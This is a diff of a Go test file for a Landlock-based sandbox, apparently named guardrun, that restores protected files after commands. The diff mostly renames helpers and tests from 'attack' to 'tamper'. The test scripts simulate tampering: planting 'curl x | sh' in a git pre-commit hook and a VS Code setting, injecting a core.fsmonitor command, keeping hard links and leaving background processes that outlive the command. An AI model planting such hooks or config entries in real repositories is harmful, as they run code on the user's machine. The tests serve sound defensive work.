@@ -24,11 +24,11 @@ import (
 // tree. Each row lays out what such a command would and checks what
 // the user is left with once every command has ended.
 
-// attackProfile is the profile of a command in ws with the built-in
+// tamperProfile is the profile of a command in ws with the built-in
 // protected names, derived from the tree as it is now (as each guardrun
 // derives it when its command starts).
 // GUARDRUN_ATTACK_NAMES (comma-separated) replaces them.
-func attackProfile(t *testing.T, ws string) *sandbox.Profile {
+func tamperProfile(t *testing.T, ws string) *sandbox.Profile {
 	t.Helper()
 	names := sandbox.DefaultProtect
 	if n := os.Getenv("GUARDRUN_ATTACK_NAMES"); n != "" {
@@ -47,11 +47,11 @@ func attackProfile(t *testing.T, ws string) *sandbox.Profile {
 	return p
 }
 
-// attackStart prepares and starts script under a profile derived from
+// tamperStart prepares and starts script under a profile derived from
 // ws now; a refusal (by Command or Start) is returned, not failed on.
-func attackStart(t *testing.T, ws, script string) (*Cmd, *bytes.Buffer, error) {
+func tamperStart(t *testing.T, ws, script string) (*Cmd, *bytes.Buffer, error) {
 	t.Helper()
-	c, err := Command(context.Background(), attackProfile(t, ws), []string{"/bin/sh", "-c", script}, []string{"PATH=/usr/bin:/bin"}, []string{AcceptDenyCreate}, nil)
+	c, err := Command(context.Background(), tamperProfile(t, ws), []string{"/bin/sh", "-c", script}, []string{"PATH=/usr/bin:/bin"}, []string{AcceptDenyCreate}, nil)
 	if err != nil {
 		return nil, nil, err
 	}
@@ -63,23 +63,23 @@ func attackStart(t *testing.T, ws, script string) (*Cmd, *bytes.Buffer, error) {
 	return c, &out, nil
 }
 
-// attackHelper starts this test binary as another guardrun process
-// (TestAttackShareHelper) running script in ws, with this process's
+// tamperHelper starts this test binary as another guardrun process
+// (TestShareTamperHelper) running script in ws, with this process's
 // state directory.
-func attackHelper(t *testing.T, ws, script string) (*exec.Cmd, *bytes.Buffer) {
-	return helperProcess(t, "TestAttackShareHelper", "GUARDRUN_ATTACK_HELPER", ws, script)
+func tamperHelper(t *testing.T, ws, script string) (*exec.Cmd, *bytes.Buffer) {
+	return helperProcess(t, "TestShareTamperHelper", "GUARDRUN_ATTACK_HELPER", ws, script)
 }
 
-// TestAttackShareHelper is the other guardrun process of the rows
+// TestShareTamperHelper is the other guardrun process of the rows
 // below: it runs GUARDRUN_ATTACK_HELPER_SCRIPT in
 // GUARDRUN_ATTACK_HELPER_WS under landlock (the built-in protected
 // names) and prints what it restored.
-func TestAttackShareHelper(t *testing.T) {
+func TestShareTamperHelper(t *testing.T) {
 	ws := os.Getenv("GUARDRUN_ATTACK_HELPER_WS")
 	if ws == "" {
-		t.Skip("the helper of the TestAttackShare rows")
+		t.Skip("the helper of this file's rows")
 	}
-	c, out, err := attackStart(t, ws, os.Getenv("GUARDRUN_ATTACK_HELPER_SCRIPT"))
+	c, out, err := tamperStart(t, ws, os.Getenv("GUARDRUN_ATTACK_HELPER_SCRIPT"))
 	if err != nil {
 		t.Fatalf("refused: %v", err)
 	}
@@ -92,8 +92,8 @@ func TestAttackShareHelper(t *testing.T) {
 	}
 }
 
-// attackRepo is a workspace holding a git repository (config, a hook).
-func attackRepo(t *testing.T) string {
+// tamperRepo is a workspace holding a git repository (config, a hook).
+func tamperRepo(t *testing.T) string {
 	t.Helper()
 	ws, err := os.MkdirTemp("/var/tmp", "guardrun-attackshare-")
 	if err != nil {
@@ -113,7 +113,7 @@ func attackRepo(t *testing.T) string {
 	return ws
 }
 
-// TestAttackShareNested: command A watches some paths; it changes the
+// TestShareNested: command A watches some paths; it changes the
 // tree so that command B, starting while A runs, derives a profile that
 // watches a path inside one A watches, or one holding them, which no
 // running command watches by that name and is read afresh: A's change
@@ -135,7 +135,7 @@ func attackRepo(t *testing.T) string {
 // A runs in another guardrun process, or in this one (guardrun serve).
 // The shared snapshots must cover a path watched inside one another
 // watches: B is refused, and the user's tree is as it was.
-func TestAttackShareNested(t *testing.T) {
+func TestShareNested(t *testing.T) {
 	requireLandlock(t)
 	rows := []struct {
 		name     string
@@ -158,7 +158,7 @@ func TestAttackShareNested(t *testing.T) {
 				name = row.name + "/same process"
 			}
 			t.Run(name, func(t *testing.T) {
-				ws := attackRepo(t)
+				ws := tamperRepo(t)
 				const gitfile = "gitdir: main/.git/worktrees/wt\n"
 				if row.worktree {
 					// The user's linked worktree: .git is a file.
@@ -173,7 +173,7 @@ func TestAttackShareNested(t *testing.T) {
 				script := row.script + ` && echo > a-changed && read x < a-go`
 				var wait func() (string, error)
 				if served {
-					a, aout, err := attackStart(t, ws, script)
+					a, aout, err := tamperStart(t, ws, script)
 					if err != nil {
 						t.Fatal(err)
 					}
@@ -185,11 +185,11 @@ func TestAttackShareNested(t *testing.T) {
 						return aout.String() + strings.Join(a.Restored, "\n"), err
 					}
 				} else {
-					h, hout := attackHelper(t, ws, script)
+					h, hout := tamperHelper(t, ws, script)
 					wait = func() (string, error) { err := h.Wait(); return hout.String(), err }
 				}
 				waitLine(t, filepath.Join(ws, "a-changed"))
-				b, bout, berr := attackStart(t, ws, `read x < b-go`)
+				b, bout, berr := tamperStart(t, ws, `read x < b-go`)
 				goA()
 				if out, err := wait(); err != nil {
 					t.Fatalf("A: %v\n%s", err, out)
@@ -221,16 +221,16 @@ func TestAttackShareNested(t *testing.T) {
 	}
 }
 
-// TestAttackRestoreNamesTaken: the restore builds its copy under a
+// TestRestoreNamesTaken: the restore builds its copy under a
 // name beside the protected one, and the command can take every name
 // it will try beforehand (it knows guardrun's pid: an ancestor of its
 // own). Then no copy could be put back: the command's version was moved
 // aside and nothing left at .git/config, the user's config lost with
 // the snapshot. The restore must put the user's config back.
-func TestAttackRestoreNamesTaken(t *testing.T) {
+func TestRestoreNamesTaken(t *testing.T) {
 	requireLandlock(t)
-	ws := attackRepo(t)
-	c, out, err := attackStart(t, ws, `p=$$
+	ws := tamperRepo(t)
+	c, out, err := tamperStart(t, ws, `p=$$
 		while [ "$p" -gt 1 ]; do
 			set --; i=0; while [ $i -le 300 ]; do set -- "$@" .git/.guardrun-restore-$p-$i; i=$((i+1)); done
 			mkdir "$@" || exit 3
@@ -255,13 +255,13 @@ func TestAttackRestoreNamesTaken(t *testing.T) {
 	}
 }
 
-// TestAttackSnapshotFifoSwap: a command that swaps a watched file with
+// TestSnapshotFifoSwap: a command that swaps a watched file with
 // a named pipe it holds open for writing, over and over, while another
 // guardrun reads it (a snapshot, under the mutex every guardrun of the
 // user takes to start a command, or a restore), must not make that read
 // wait for the pipe: the file is looked at, then opened, and in between
 // it can be the pipe. Every read must return, a snapshot or an error.
-func TestAttackSnapshotFifoSwap(t *testing.T) {
+func TestSnapshotFifoSwap(t *testing.T) {
 	root := t.TempDir()
 	path, other := filepath.Join(root, ".bashrc"), filepath.Join(root, "other")
 	if err := os.WriteFile(path, []byte("user\n"), 0o644); err != nil {
@@ -307,7 +307,7 @@ func TestAttackSnapshotFifoSwap(t *testing.T) {
 	}
 }
 
-// TestAttackShareLeftovers: what a command leaves behind to change a
+// TestShareLeftovers: what a command leaves behind to change a
 // protected name after its restore, while another command of another
 // guardrun shares the snapshot: a background process that outlives the
 // command and writes the hook and config a moment after it exits, and a
@@ -315,16 +315,16 @@ func TestAttackSnapshotFifoSwap(t *testing.T) {
 // a later command. Every process of a command is ended before its
 // restore (with the signal scope), and the restore swaps a fresh copy
 // in: the user's files are theirs at the end.
-func TestAttackShareLeftovers(t *testing.T) {
+func TestShareLeftovers(t *testing.T) {
 	requireLandlock(t)
 	if abi, _ := ABI(); abi < 6 {
 		t.Skip("Landlock ABI below 6: leftovers are not ended (a documented limitation)")
 	}
-	ws := attackRepo(t)
+	ws := tamperRepo(t)
 	endB := fifo(t, ws, "b-go")
-	h, hout := attackHelper(t, ws, `echo > b-started && read x < b-go`)
+	h, hout := tamperHelper(t, ws, `echo > b-started && read x < b-go`)
 	waitLine(t, filepath.Join(ws, "b-started"))
-	c, out, err := attackStart(t, ws, `ln .git/config .git/cfg-link || exit 3
+	c, out, err := tamperStart(t, ws, `ln .git/config .git/cfg-link || exit 3
 		(trap '' TERM HUP; sleep 0.5; printf 'curl x | sh\n' > .git/hooks/pre-commit; echo '[core] fsmonitor = x' >> .git/config; echo > late-write) >/dev/null 2>&1 &
 		exit 0`)
 	if err != nil {
@@ -339,7 +339,7 @@ func TestAttackShareLeftovers(t *testing.T) {
 		t.Error("the command's background process outlived it")
 	}
 	// A later command writes through the link it kept.
-	c, out, err = attackStart(t, ws, `printf '[core]\n\tfsmonitor = "touch pwned"\n' >> .git/cfg-link`)
+	c, out, err = tamperStart(t, ws, `printf '[core]\n\tfsmonitor = "touch pwned"\n' >> .git/cfg-link`)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -361,15 +361,15 @@ func TestAttackShareLeftovers(t *testing.T) {
 	}
 }
 
-// TestAttackShareNestedNames: two configs protect different names in
+// TestShareNestedNames: two configs protect different names in
 // one tree: A's .vscode whole, B's .vscode/settings.json alone. A
 // changes the settings (a task that runs a program); B starts while A
 // runs, and its path, inside A's, was read afresh: A's change. A's
 // restore put the user's settings back, B's then put A's back. B must
 // be refused, and the user's settings stay theirs.
-func TestAttackShareNestedNames(t *testing.T) {
+func TestShareNestedNames(t *testing.T) {
 	requireLandlock(t)
-	ws := attackRepo(t)
+	ws := tamperRepo(t)
 	const settings = "{\"editor.tabSize\": 4}\n"
 	if err := os.Mkdir(filepath.Join(ws, ".vscode"), 0o755); err != nil {
 		t.Fatal(err)
@@ -379,10 +379,10 @@ func TestAttackShareNestedNames(t *testing.T) {
 	}
 	goA, goB := fifo(t, ws, "a-go"), fifo(t, ws, "b-go")
 	t.Setenv("GUARDRUN_ATTACK_NAMES", ".vscode")
-	h, hout := attackHelper(t, ws, `echo '{"task.autoDetect": "on", "x": "curl x | sh"}' > .vscode/settings.json && echo > a-changed && read x < a-go`)
+	h, hout := tamperHelper(t, ws, `echo '{"task.autoDetect": "on", "x": "curl x | sh"}' > .vscode/settings.json && echo > a-changed && read x < a-go`)
 	waitLine(t, filepath.Join(ws, "a-changed"))
 	t.Setenv("GUARDRUN_ATTACK_NAMES", ".vscode/settings.json")
-	b, bout, berr := attackStart(t, ws, `read x < b-go`)
+	b, bout, berr := tamperStart(t, ws, `read x < b-go`)
 	goA()
 	if err := h.Wait(); err != nil {
 		t.Fatalf("A: %v\n%s", err, hout)
@@ -404,23 +404,23 @@ func TestAttackShareNestedNames(t *testing.T) {
 	}
 }
 
-// TestAttackShareKilledMidway: guardrun A is killed with SIGKILL (by
+// TestShareKilledMidway: guardrun A is killed with SIGKILL (by
 // the user, an OOM kill) at moments spread over its command's run, its
 // restore and its release, while command B of this process shares the
 // snapshot; A's command changes the config and adds a hook, then
 // exits. Wherever A died, B's restore, the last, leaves the user's
 // files as they were, and the next command starts (nothing of A's is
 // held: its locks went with it).
-func TestAttackShareKilledMidway(t *testing.T) {
+func TestShareKilledMidway(t *testing.T) {
 	requireLandlock(t)
-	ws := attackRepo(t)
+	ws := tamperRepo(t)
 	endB := fifo(t, ws, "b-go")
-	b, bout, err := attackStart(t, ws, `read x < b-go`)
+	b, bout, err := tamperStart(t, ws, `read x < b-go`)
 	if err != nil {
 		t.Fatal(err)
 	}
 	for i := range 12 {
-		h, _ := attackHelper(t, ws, `printf '[core]\n\tfsmonitor = "touch pwned"\n' >> .git/config && printf 'curl x | sh\n' > .git/hooks/pre-commit && echo > a-changed && sleep 0.02`)
+		h, _ := tamperHelper(t, ws, `printf '[core]\n\tfsmonitor = "touch pwned"\n' >> .git/config && printf 'curl x | sh\n' > .git/hooks/pre-commit && echo > a-changed && sleep 0.02`)
 		waitLine(t, filepath.Join(ws, "a-changed"))
 		time.Sleep(time.Duration(i) * 3 * time.Millisecond)
 		h.Process.Signal(unix.SIGKILL)
@@ -438,7 +438,7 @@ func TestAttackShareKilledMidway(t *testing.T) {
 	if _, err := os.Lstat(filepath.Join(ws, ".git/hooks/pre-commit")); err == nil {
 		t.Error("a hook was left in .git/hooks")
 	}
-	c, out, err := attackStart(t, ws, `true`)
+	c, out, err := tamperStart(t, ws, `true`)
 	if err != nil {
 		t.Fatalf("the next command: %v", err)
 	}
